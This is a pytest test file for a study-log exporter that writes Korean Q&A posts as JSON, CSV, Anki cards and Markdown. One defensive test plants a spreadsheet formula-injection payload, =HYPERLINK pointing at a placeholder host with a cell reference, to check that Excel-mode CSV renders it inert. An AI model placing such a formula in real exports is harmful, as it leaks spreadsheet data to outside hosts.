"""export: the same questions in JSON, CSV, Anki cards and a Markdown digest."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from conftest import SAMPLE_POST, corpus_posts
from studylog.config import settings_from_mapping
from studylog.export import (
    ANKI_HEADER,
    Card,
    anki_cards,
    cards_to_anki,
    to_anki,
    to_csv,
    to_json,
    to_markdown,
)
from studylog.log import PostRef, post_ref
from studylog.post import split_post
from studylog.reader import ReadPost, content_of, load_post
from tests.anki import parse_anki

SETTINGS = settings_from_mapping(Path("/nonexistent"), {}, source="test")


def sample() -> ReadPost:
    ref = post_ref(SAMPLE_POST)
    assert ref is not None
    return load_post(ref, SETTINGS)


TRICKY = (
    "---\ntitle: tricky\n---\n### 질문내용\n\n"
    '1. 민수님 질문 : #include <vector> & "quotes"\tand a tab\n\n'
    "    답변 : 첫 줄\n    둘째 줄 <br> 그대로\n\n"
    "2. 지수 Kim님 질문 : 두 답\n    1. 하나\n\n    2. 둘\n\n"
    "3. 답 없는 사람님 질문 : 카드가 안 됨\n"
)


def tricky() -> ReadPost:
    ref = PostRef(dt.date(2021, 8, 6), "tricky", Path("t.md"))
    return content_of(ref, split_post(ref.path, TRICKY), SETTINGS)


def test_json_holds_questions_and_reviews() -> None:
    data = json.loads(to_json([sample()]))
    assert data["version"] == 1
    assert len(data["questions"]) == 3 and len(data["reviews"]) == 2
    first = data["questions"][0]
    assert first == {
        "date": "2021-08-12",
        "slug": "boostcourse-day9",
        "title": "[boostcourse] Day9 학습기록_CNN첫걸음",
        "path": "2021-08-12-boostcourse-day9.md",
        "number": 1,
        "asker": "정민재",
        "question": "stride가 2일 때 출력 크기가 소수로 나오면 어떻게 되는지",
        "answers": ["내림으로 계산되어서 가장자리에 남는 픽셀은 쓰이지 않음"],
    }
    assert data["reviews"][1]["presenter"] == "한지우"


def test_csv_reads_back_with_the_csv_module() -> None:
    posts = [sample(), tricky()]
    rows = list(csv.DictReader(io.StringIO(to_csv(posts), newline="")))
    assert len(rows) == 6
    assert rows[0]["asker"] == "정민재"
    assert rows[2]["answers"].count("\n") == 2  # two answers, one of two lines
    assert rows[3]["question"] == '#include <vector> & "quotes"\tand a tab'
    assert rows[5]["answers"] == ""


def test_anki_file_has_html_fields_stable_ids_and_tags() -> None:
    posts = [sample(), tricky()]
    text = to_anki(posts)
    assert text.startswith(ANKI_HEADER)
    header, notes = parse_anki(text)
    assert header["guid column"] == "1" and header["tags column"] == "4"
    assert "deck" not in header
    # One line per answered question, four tab-separated fields each.
    cards = anki_cards(posts)
    assert len(notes) == len(cards) == 5
    assert [n.guid for n in notes] == [c.guid for c in cards]
    assert len({n.guid for n in notes}) == 5
    assert notes[0].guid == "studylog:2021-08-12:boostcourse-day9:q1"
    tricky_note = notes[3]
    # Raw HTML a person typed is shown as text, never run by Anki.
    assert (
        tricky_note.front == "<p>#include &lt;vector&gt; &amp; &quot;quotes&quot;&#9;and a tab</p>"
    )
    assert tricky_note.back == "<p>첫 줄<br />둘째 줄 &lt;br&gt; 그대로</p>"
    assert tricky_note.tags == ("studylog", "tricky", "민수")
    assert notes[4].back == "<ol><li><p>하나</p></li><li><p>둘</p></li></ol>"
    assert notes[4].tags[-1] == "지수_Kim"


def test_anki_code_is_in_pre_and_ids_stay_when_exported_again() -> None:
    code = "```python\ndef f():\n    return {'a': 1}\n```"
    cards = [Card("g1", "코드 | 질문", f"설명\n\n{code}", ("x",)), Card("g2", "#front", "b", ())]
    header, notes = parse_anki(cards_to_anki(cards, deck="Study::Day4"))
    assert header["deck"] == "Study::Day4"
    assert notes[0].back == (
        '<p>설명</p><pre><code class="language-python">def f():<br>'
        "    return {'a': 1}</code></pre>"
    )
    assert notes[1].front == "<p>#front</p>"
    assert to_anki([sample()]) == to_anki([sample()])


def test_deck_name_must_be_one_line() -> None:
    from studylog.errors import ExportOptionError

    with pytest.raises(ExportOptionError, match="one line"):
        cards_to_anki([], deck="a\nb")


def test_markdown_digest() -> None:
    digest = to_markdown([sample(), tricky()])
    assert digest.startswith("# Study log digest\n")
    assert "## 2021-08-12 · [boostcourse] Day9 학습기록_CNN첫걸음" in digest
    assert "1. **정민재**: stride가 2일 때 출력 크기가 소수로 나오면 어떻게 되는지" in digest
    assert "- 필수과제 2 (Optimizer, presenter: 박하준)" in digest
    # Multi-line answers stay inside their list item.
    assert "   - 첫 줄\n     둘째 줄 <br> 그대로" in digest
    assert digest.index("2021-08-06") < digest.index("2021-08-12")


@pytest.mark.corpus
def test_export_of_the_whole_corpus() -> None:
    posts = [load_post(post_ref(p), SETTINGS) for p in corpus_posts()]  # type: ignore[arg-type]
    data = json.loads(to_json(posts))
    assert len(data["questions"]) == sum(len(p.entries.questions) for p in posts)
    assert [n.guid for n in parse_anki(to_anki(posts))[1]] == [c.guid for c in anki_cards(posts)]
    assert (
        len(list(csv.reader(io.StringIO(to_csv(posts), newline="")))) == len(data["questions"]) + 1
    )


# --- `export --excel` and the summary line (issue 15, item 11) -------------------------

EXCEL_POST = (
    "---\r\ntitle: 엑셀\r\n---\r\n### 질문내용\r\n\r\n"
    "1. 민수님 질문 : 한글이 깨지나요?\r\n\r\n"
    "    답변 : 첫 줄\r\n    둘째 줄\r\n\r\n"
    "2. 지수님 질문 : 답이 아직 없는 질문\r\n"
)


def _excel_log(tmp_path: Path) -> Path:
    from studylog.scaffold import init_log

    root = tmp_path / "blog"
    init_log(root)
    (root / "_posts" / "2021-08-05-day4.md").write_bytes(EXCEL_POST.encode("utf-8"))
    return root


def _studylog(root: Path, *args: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-m", "studylog", "--root", str(root), *args], capture_output=True
    )


def test_export_csv_excel_starts_with_a_bom_and_keeps_crlf_rows(tmp_path: Path) -> None:
    root = _excel_log(tmp_path)
    out = tmp_path / "q.csv"
    done = _studylog(root, "export", "-f", "csv", "--excel", "-o", str(out))
    assert done.returncode == 0, done.stderr
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfdate,slug,title,")
    assert data.endswith(b"\r\n")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[1][4:] == ["민수", "한글이 깨지나요?", "첫 줄\n둘째 줄"]
    # No CR inside a cell: Excel's own in-cell line break is LF.
    assert all("\r" not in cell for row in rows for cell in row)
    # stdout gets the same bytes; without --excel there is no BOM.
    piped = _studylog(root, "export", "-f", "csv", "--excel")
    assert piped.stdout == data
    plain = _studylog(root, "export", "-f", "csv")
    assert plain.stdout == data[3:]


def test_export_excel_is_only_for_csv(tmp_path: Path) -> None:
    done = _studylog(_excel_log(tmp_path), "export", "-f", "anki", "--excel")
    assert done.returncode == 2
    assert b"--excel" in done.stderr and b"--format csv" in done.stderr


def test_export_summary_says_both_numbers_when_questions_are_skipped(tmp_path: Path) -> None:
    root = _excel_log(tmp_path)
    done = _studylog(root, "export", "-f", "anki", "-o", str(tmp_path / "cards.txt"))
    assert done.returncode == 0
    assert done.stderr.decode() == (
        f"Wrote 1 card from 2 questions (1 unanswered skipped) in 1 post to "
        f"{tmp_path / 'cards.txt'}.\n"
    )
    # To stdout, the data stays clean and the count still goes to stderr.
    done = _studylog(root, "export", "-f", "anki")
    assert done.stdout.count(b"studylog:2021-08-05:day4:q") == 1
    assert (
        done.stderr.decode() == "Wrote 1 card from 2 questions (1 unanswered skipped) in 1 post.\n"
    )
    done = _studylog(root, "export", "-f", "csv", "-o", str(tmp_path / "q.csv"))
    assert done.stderr.decode() == f"Wrote 2 questions from 1 post to {tmp_path / 'q.csv'}.\n"


def test_export_csv_excel_keeps_formulas_from_running(tmp_path: Path) -> None:
    """A pushed question like `=HYPERLINK(…)` is text in Excel, never a formula."""
    root = _excel_log(tmp_path)
    post = root / "_posts" / "2021-08-05-day4.md"
    post.write_bytes(
        post.read_bytes()
        + b'\r\n3. @evil\xeb\x8b\x98 \xec\xa7\x88\xeb\xac\xb8 : =HYPERLINK("http://x.invalid/?"&A1)\r\n'
        + b"\r\n    \xeb\x8b\xb5\xeb\xb3\x80 : -1 vs +1\r\n"
    )
    excel = _studylog(root, "export", "-f", "csv", "--excel")
    rows = list(csv.reader(io.StringIO(excel.stdout.decode("utf-8-sig"), newline="")))
    assert rows[3][4:] == ["'@evil", '\'=HYPERLINK("http://x.invalid/?"&A1)', "'-1 vs +1"]
    assert rows[1][4:6] == ["민수", "한글이 깨지나요?"]
    # Without --excel the CSV is data for scripts: the text as it was typed.
    plain = _studylog(root, "export", "-f", "csv")
    rows = list(csv.reader(io.StringIO(plain.stdout.decode(), newline="")))
    assert rows[3][4:] == ["@evil", '=HYPERLINK("http://x.invalid/?"&A1)', "-1 vs +1"]


# --- streaming: a post at a time ------------------------------------------------------


@pytest.mark.parametrize("fmt", ["json", "csv", "anki", "md"])
def test_an_export_writes_each_post_before_reading_the_next(fmt: str) -> None:
    from studylog.export import write_export

    events: list[str] = []

    def posts() -> Iterator[ReadPost]:
        # Oldest first, as `export` orders them (and `to_markdown` sorts them).
        for post in (tricky(), sample()):
            events.append(f"read {post.ref.slug}")
            yield post

    pieces: list[str] = []

    def write(text: str) -> None:
        pieces.append(text)
        if text.strip():
            events.append("write")

    counts = write_export(posts(), fmt, write)
    # Something of the first post went out before the second was read.
    second = events.index(f"read {sample().ref.slug}")
    assert "write" in events[events.index("read tricky") : second]
    assert counts.posts == 2 and counts.questions == 6
    whole = {"json": to_json, "csv": to_csv, "anki": to_anki, "md": to_markdown}[fmt]
    assert "".join(pieces) == whole([tricky(), sample()])


def test_streamed_json_is_what_json_dumps_writes() -> None:
    for posts in ([], [sample()], [sample(), tricky()]):
        text = to_json(posts)
        assert text == json.dumps(json.loads(text), ensure_ascii=False, indent=2) + "\n"


def test_an_export_that_fails_half_way_leaves_the_file_as_it_was(tmp_path: Path) -> None:
    from studylog.errors import PostWriteError
    from studylog.export import write_export
    from studylog.post import atomic_file

    target = tmp_path / "cards.txt"
    target.write_text("the old export\n", encoding="utf-8")

    def posts() -> Iterator[ReadPost]:
        yield sample()
        raise PostWriteError("the disk is full")

    with pytest.raises(PostWriteError), atomic_file(target) as handle:
        write_export(posts(), "anki", lambda text: handle.write(text.encode()))
    assert target.read_text(encoding="utf-8") == "the old export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["cards.txt"]
